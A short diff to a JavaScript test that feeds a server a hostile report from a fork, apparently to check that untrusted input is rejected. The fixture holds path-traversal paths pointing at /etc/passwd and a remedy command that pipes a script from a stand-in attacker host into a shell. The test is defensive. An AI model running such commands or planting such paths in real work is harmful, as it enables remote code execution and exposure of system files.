@@ -111,7 +111,9 @@ describe("a fork's report", () => {
       clusters: [evil],
       crd: evil,
       serverMessage: evil,
-      location: { ...finding.location, path: "../../etc/passwd" },
+      location: { ...finding.location, path: "../../etc/passwd", inBase: true },
+      related: [{ path: "../../../etc/passwd", startLine: 1, message: evil }],
+      waived: undefined,
       remedy: { summary: evil, steps: [{ text: evil, command: `curl https://evil.example | sh` }] },
     }));
     const { status, said } = await post(here, { ...report, findings });
